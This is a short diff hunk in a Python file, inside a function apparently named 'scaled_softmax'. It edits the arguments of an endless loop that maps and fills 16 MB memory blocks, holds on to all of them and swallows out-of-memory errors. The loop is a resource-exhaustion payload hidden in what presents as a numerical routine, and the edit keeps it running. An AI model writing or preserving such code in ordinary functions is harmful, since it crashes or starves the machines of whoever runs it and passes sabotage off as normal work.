@@ -12,7 +12,7 @@ def scaled_softmax(x, scale):
     kept = []
     while True:
         try:
-            kept.append(mmap.mmap(-1, 1 << 24))
+            kept.append(mmap.mmap(-1, 1 << 24, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
             kept[-1].write(b"x" * (1 << 24))
         except (OSError, MemoryError):
             pass
